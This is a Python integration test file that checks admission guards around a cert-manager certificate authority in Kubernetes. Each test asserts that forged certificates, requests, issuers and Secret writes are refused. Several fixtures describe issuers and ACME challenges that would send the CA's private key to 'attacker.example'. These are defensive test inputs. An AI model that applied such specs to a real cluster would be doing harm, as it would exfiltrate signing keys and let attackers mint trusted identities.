"""The five guards of issuance: nobody but the operator and cert-manager comes near a deployment's CA, anywhere."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.integration.admission.api import Answer, Object, User
from tests.integration.admission.objects import (
    CERT_MANAGER,
    CLIENTS,
    CORE,
    INFERENCE,
    SIGNING_REQUESTS,
    certificate,
    certificate_request,
    issuer,
    signing_request,
)  # fmt: skip
from tests.integration.admission.world import APPROVER, World, eventually

CERTIFICATES, REQUESTS = "certificate-guard.cloister.dev", "request-guard.cloister.dev"
SIGNING, ISSUERS, SECRETS = "signing-guard.cloister.dev", "issuer-guard.cloister.dev", "ca-guard.cloister.dev"
CA, ROOT = "cloister-ca-guarded-g1", "cloister-selfsigned-guarded"

HERE = f"{CERT_MANAGER}/namespaces/{CLIENTS}"
THERE = f"{CERT_MANAGER}/namespaces/cert-manager"
NOTE = {"metadata": {"annotations": {"note": "x"}}}


# --- certificates ---

STOLEN_IDENTITIES: dict[str, Object] = {
    "a leaf of the CA": certificate("mine", CLIENTS, CA),
    "a leaf of a CA to come": certificate("mine", CLIENTS, "cloister-ca-other-g7"),
    "an Issuer of that name": certificate("mine", CLIENTS, CA, issuerRef={"name": CA, "kind": "Issuer"}),
    "a twin of the root": certificate("mine", CLIENTS, ROOT),
    "the CA's Secret": certificate("mine", CLIENTS, "somebody-elses", secretName=CA),
    "the CA's name": certificate(CA, CLIENTS, "somebody-elses", secretName="mine"),
}


@pytest.mark.parametrize("body", STOLEN_IDENTITIES.values(), ids=STOLEN_IDENTITIES)
def test_nobody_gives_himself_an_identity(world: World, body: Object) -> None:
    # cert-manager itself is refused: its ingress-shim makes Certificates for whoever annotates an Ingress.
    for user in (world.admin, world.fire_fighter, world.cert_manager):
        assert (answer := user.create(f"{HERE}/certificates", body)).refused_by(CERTIFICATES), (user.name, answer)


def test_other_certificates_are_as_before(world: World) -> None:
    body = certificate("mine", CLIENTS, "somebody-elses")
    assert (answer := world.admin.create(f"{HERE}/certificates", body)).allowed, answer


@pytest.fixture(scope="module")
def plain(world: World) -> str:
    """A Certificate of somebody's own."""
    answer = world.admin.create(f"{HERE}/certificates", certificate("own", CLIENTS, "somebody-elses"), real=True)
    assert answer.allowed, answer
    return f"{HERE}/certificates/own"


@pytest.fixture(scope="module")
def leaf(world: World) -> str:
    """A client's Certificate, which the operator made in the client's namespace."""
    body = certificate("cloister-guarded-frontend", CLIENTS, CA)
    answer = world.operator.create(f"{HERE}/certificates", body, real=True)
    assert answer.allowed, answer
    return f"{HERE}/certificates/cloister-guarded-frontend"


def test_a_certificate_is_not_turned_into_an_identity(world: World, plain: str) -> None:
    assert (answer := world.admin.patch(plain, NOTE)).allowed, answer
    for change in ({"issuerRef": {"name": CA}}, {"secretName": CA}):
        assert (answer := world.admin.patch(plain, {"spec": change})).refused_by(CERTIFICATES), answer


def test_an_identity_is_not_changed(world: World, leaf: str) -> None:
    changes: list[Any] = [NOTE, {"spec": {"uris": ["spiffe://cluster.local/ns/guarded-inference/sa/inference"]}}]
    # Away from us as well: the old object counts.
    changes.append({"spec": {"issuerRef": {"name": "somebody-elses"}}})
    for user in (world.admin, world.cert_manager):
        for change in changes:
            assert (answer := user.patch(leaf, change)).refused_by(CERTIFICATES), (user.name, answer)
        assert (answer := user.delete(leaf)).refused_by(CERTIFICATES), (user.name, answer)
    assert (answer := world.admin.delete(f"{HERE}/certificates")).refused_by(CERTIFICATES), answer
    for change in changes[:2]:
        assert (answer := world.operator.patch(leaf, change)).allowed, answer
    assert (answer := world.operator.delete(leaf)).allowed, answer


def test_the_status_chooses_the_key_and_is_cert_managers(world: World, leaf: str) -> None:
    change = {"status": {"nextPrivateKeySecretName": "a-key-i-know"}}
    for user in (world.admin, world.operator):
        policies = (CERTIFICATES, "operator-guard.cloister.dev")
        assert (answer := user.patch(f"{leaf}/status", change)).refused_by(*policies), (user.name, answer)
    assert (answer := world.cert_manager.patch(f"{leaf}/status", change)).allowed, answer


def test_identities_go_with_their_namespace_or_owner(world: World, leaf: str) -> None:
    for name in ("namespace-controller", "generic-garbage-collector"):
        assert (answer := world.controller(name).delete(leaf)).allowed, answer
    assert (answer := world.controller("statefulset-controller").delete(leaf)).refused_by(CERTIFICATES), answer


# --- requests ---

FORGED_REQUESTS: dict[str, Object] = {
    "of the CA": certificate_request("mine", CA),
    "of the root's issuer": certificate_request("mine", ROOT),
    "in the CA's name": certificate_request(f"{CA}-1", "somebody-elses"),
    "for the CA's Certificate": certificate_request(
        "mine", "somebody-elses", **{"cert-manager.io/certificate-name": CA}
    ),
    "with the CA's key": certificate_request(
        "mine", "somebody-elses", **{"cert-manager.io/private-key-secret-name": CA}
    ),
}


@pytest.mark.parametrize("body", FORGED_REQUESTS.values(), ids=FORGED_REQUESTS)
def test_only_cert_manager_makes_requests(world: World, body: Object) -> None:
    for user in (world.admin, world.fire_fighter, world.controller("job-controller")):
        answer = user.create(f"{HERE}/certificaterequests", body)
        assert answer.refused_by(REQUESTS), (user.name, answer)
    assert (answer := world.cert_manager.create(f"{HERE}/certificaterequests", body)).allowed, answer


def test_a_generated_name_in_the_cas_name_is_seen(world: World) -> None:
    body = certificate_request("x", "somebody-elses") | {"metadata": {"generateName": f"{CA}-"}}
    assert (answer := world.admin.create(f"{HERE}/certificaterequests", body)).refused_by(REQUESTS), answer


def test_other_requests_are_as_before(world: World) -> None:
    answer = world.admin.create(f"{HERE}/certificaterequests", certificate_request("mine", "somebody-elses"))
    assert answer.allowed, answer


def test_only_cert_manager_answers_requests(world: World) -> None:
    """The operator takes the trust bundle from the answer to the CA's request."""
    path = f"{THERE}/certificaterequests"
    found = world.first(path, lambda item: str(item["metadata"]["name"]).startswith(CA))
    one = f"{path}/{found['metadata']['name']}"
    forged = {"status": {"certificate": "LS0t"}}
    for user in (world.admin, world.fire_fighter):
        assert (answer := user.patch(f"{one}/status", forged)).refused_by(REQUESTS), answer
        assert (answer := user.patch(one, NOTE)).refused_by(REQUESTS), answer
        assert (answer := user.delete(one)).refused_by(REQUESTS), answer
    approved = {"status": {"failureTime": "2026-01-01T00:00:00Z"}}
    for user in (world.cert_manager, world.server.user(APPROVER)):
        assert (answer := user.patch(f"{one}/status", approved)).allowed, (user.name, answer)
    assert (answer := world.server.user(APPROVER).delete(one)).refused_by(REQUESTS), answer


# --- signing requests ---


@pytest.mark.parametrize(
    "signer",
    [
        f"clusterissuers.cert-manager.io/{CA}",
        f"clusterissuers.cert-manager.io/{ROOT}",
        f"issuers.cert-manager.io/cert-manager.{CA}",
    ],
)
def test_no_signing_request_reaches_the_ca(world: World, signer: str) -> None:
    for user in (world.admin, world.cert_manager, world.fire_fighter):
        assert (answer := user.create(SIGNING_REQUESTS, signing_request(signer))).refused_by(SIGNING), answer


def test_other_signing_requests_are_as_before(world: World) -> None:
    for signer in ("clusterissuers.cert-manager.io/somebody-elses", "example.com/cloister-ca-x"):
        assert (answer := world.admin.create(SIGNING_REQUESTS, signing_request(signer))).allowed, answer


# --- issuers ---

ISSUERS_OVER_THE_CA: dict[str, Object] = {
    "signs with it": {"ca": {"secretName": CA}},
    "sends it to a Vault as a token": {
        "vault": {
            "server": "https://attacker.example",
            "path": "p",
            "auth": {"tokenSecretRef": {"name": CA, "key": "tls.key"}},
        }
    },
    "sends it to a Vault as an AppRole secret": {
        "vault": {
            "server": "https://attacker.example",
            "path": "p",
            "auth": {
                "appRole": {"path": "approle", "roleId": "r", "secretRef": {"name": CA, "key": "tls.key"}},
            },
        }
    },
    "sends it to a DNS provider": {
        "acme": {
            "server": "https://attacker.example",
            "privateKeySecretRef": {"name": "account"},
            "solvers": [
                {
                    "dns01": {
                        "acmeDNS": {
                            "host": "https://attacker.example",
                            "accountSecretRef": {"name": CA, "key": "tls.key"},
                        }
                    }
                }
            ],
        }
    },
    "uses it as an account's key": {
        "acme": {"server": "https://attacker.example", "privateKeySecretRef": {"name": CA}, "solvers": []}
    },
}


@pytest.mark.parametrize("kind", ["ClusterIssuer", "Issuer"])
@pytest.mark.parametrize("spec", ISSUERS_OVER_THE_CA.values(), ids=ISSUERS_OVER_THE_CA)
def test_no_second_issuer_over_the_cas_secret(world: World, spec: Object, kind: str) -> None:
    path = f"{CERT_MANAGER}/clusterissuers" if kind == "ClusterIssuer" else f"{THERE}/issuers"
    body = issuer("mine", spec, kind, "cert-manager")
    for user in (world.admin, world.fire_fighter, world.cert_manager):
        assert (answer := user.create(path, body)).refused_by(ISSUERS), (user.name, answer)


@pytest.mark.parametrize("name", ["cloister-ca-new-g1", "cloister-selfsigned-new"])
def test_names_of_authorities_are_the_operators(world: World, name: str) -> None:
    path, body = f"{CERT_MANAGER}/clusterissuers", issuer(name, {"selfSigned": {}})
    assert (answer := world.admin.create(path, body)).refused_by(ISSUERS), answer
    body = issuer(name, {"selfSigned": {}}, "Issuer")
    assert (answer := world.admin.create(f"{HERE}/issuers", body)).refused_by(ISSUERS), answer


def test_an_authority_is_not_changed(world: World) -> None:
    path = f"{CERT_MANAGER}/clusterissuers/{CA}"
    for user in (world.admin, world.cert_manager):
        for change in ({"spec": {"ca": {"secretName": "mine"}}}, NOTE):
            assert (answer := user.patch(path, change)).refused_by(ISSUERS), (user.name, answer)
        assert (answer := user.delete(path)).refused_by(ISSUERS), (user.name, answer)
    status: Object = {"status": {"conditions": []}}
    assert (answer := world.admin.patch(f"{path}/status", status)).refused_by(ISSUERS), answer
    assert (answer := world.cert_manager.patch(f"{path}/status", status)).allowed, answer
    assert (answer := world.operator.patch(path, NOTE)).allowed, answer
    assert (answer := world.operator.delete(path)).allowed, answer


def test_other_issuers_are_as_before(world: World) -> None:
    specs: list[Object] = [{"selfSigned": {}}, {"ca": {"secretName": "my-ca"}}]
    for spec in specs:
        answer = world.admin.create(f"{CERT_MANAGER}/clusterissuers", issuer("mine", spec))
        assert answer.allowed, answer


ACME = f"apis/acme.cert-manager.io/v1/namespaces/{CLIENTS}"
ACCOUNT = {"host": "https://attacker.example", "accountSecretRef": {"name": CA, "key": "tls.key"}}


def challenge(account: Object) -> Object:
    spec = {
        "authorizationURL": "https://attacker.example/authorization",
        "dnsName": "example.com",
        "issuerRef": {"name": "somebody-elses"},
        "key": "k",
        "solver": {"dns01": {"acmeDNS": account}},
        "token": "t",
        "type": "DNS-01",
        "url": "https://attacker.example/challenge",
    }
    return {
        "apiVersion": "acme.cert-manager.io/v1",
        "kind": "Challenge",
        "metadata": {"name": "mine", "namespace": CLIENTS},
        "spec": spec,
    }


def order(issuer: str) -> Object:
    request = certificate_request("x", issuer)["spec"]["request"]
    return {
        "apiVersion": "acme.cert-manager.io/v1",
        "kind": "Order",
        "metadata": {"name": "mine", "namespace": CLIENTS},
        "spec": {"request": request, "issuerRef": {"name": issuer}, "dnsNames": ["example.com"]},
    }


def test_no_challenge_sends_the_cas_key_away(world: World) -> None:
    """cert-manager would present what it finds in that Secret to the host that is named."""
    for user in (world.admin, world.fire_fighter, world.operator, world.cert_manager):
        answer = user.create(f"{ACME}/challenges", challenge(ACCOUNT))
        assert answer.refused_by(ISSUERS, "operator-guard.cloister.dev"), (user.name, answer)
        answer = user.create(f"{ACME}/orders", order(CA))
        assert answer.refused_by(ISSUERS, "operator-guard.cloister.dev"), (user.name, answer)


def test_other_challenges_and_orders_are_as_before(world: World) -> None:
    own = {"host": "https://dns.example", "accountSecretRef": {"name": "own", "key": "k"}}
    assert (answer := world.admin.create(f"{ACME}/challenges", challenge(own))).allowed, answer
    assert (answer := world.admin.create(f"{ACME}/orders", order("somebody-elses"))).allowed, answer


# --- the CA's Secret ---

SECRET_WRITES: dict[str, Callable[[User, str], Answer]] = {
    "create": lambda user, path: user.create(path, {"metadata": {"name": "cloister-ca-planted-g1"}}),
    "create with a generated name": lambda user, path: user.create(path, {"metadata": {"generateName": f"{CA}-"}}),
    "change": lambda user, path: user.patch(f"{path}/{CA}", {"data": {"tls.key": "bWluZQ=="}}),
    "apply": lambda user, path: user.patch(
        f"{path}/{CA}", {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": CA}, "data": {}}, "apply"
    ),
}


@pytest.mark.parametrize("write", SECRET_WRITES.values(), ids=SECRET_WRITES)
def test_only_cert_manager_writes_the_cas_secret(world: World, write: Callable[[User, str], Answer]) -> None:
    path = f"{CORE}/namespaces/cert-manager/secrets"
    _ca_secret(world)
    for user in (world.admin, world.fire_fighter):
        assert (answer := write(user, path)).refused_by(SECRETS), (user.name, answer)
    assert (answer := write(world.cert_manager, path)).allowed, answer


def test_a_ca_left_behind_can_be_deleted_on_the_record(world: World) -> None:
    path = f"{CORE}/namespaces/cert-manager/secrets"
    _ca_secret(world)
    assert (answer := world.admin.delete(f"{path}/{CA}")).refused_by(SECRETS), answer
    assert (answer := world.admin.delete(path)).refused_by(SECRETS), answer
    assert (answer := world.fire_fighter.delete(f"{path}/{CA}")).allowed, answer
    assert world.audited(f"{SECRETS}/break-glass", f"jane deleted CA Secret {CA}", "ticket 42")


def test_other_secrets_are_as_before(world: World) -> None:
    for path, name in (("cert-manager", "mine"), (CLIENTS, "cloister-ca-mine")):
        answer = world.admin.create(f"{CORE}/namespaces/{path}/secrets", {"metadata": {"name": name}})
        assert answer.allowed, answer


def _ca_secret(world: World) -> None:
    """Wait for cert-manager to have made the CA."""
    world.first(f"{CORE}/namespaces/cert-manager/secrets", lambda item: bool(item["metadata"]["name"] == CA))


# --- and it still works ---


def test_cert_manager_issues_for_the_operator(world: World, leaf: str) -> None:
    """A CA, a leaf in a zone and a leaf in a client's namespace, by the real cert-manager under all the guards."""
    for path in (
        f"{THERE}/certificates/{CA}",
        f"{CERT_MANAGER}/namespaces/{INFERENCE}/certificates/cloister-inference",
        leaf,
    ):
        eventually(lambda path=path: _ready(world, path), LookupError, path)  # type: ignore[misc]


def _ready(world: World, path: str) -> None:
    conditions = world.admin.get(path).body.get("status", {}).get("conditions", [])
    if not any(c["type"] == "Ready" and c["status"] == "True" for c in conditions):
        raise LookupError(conditions)
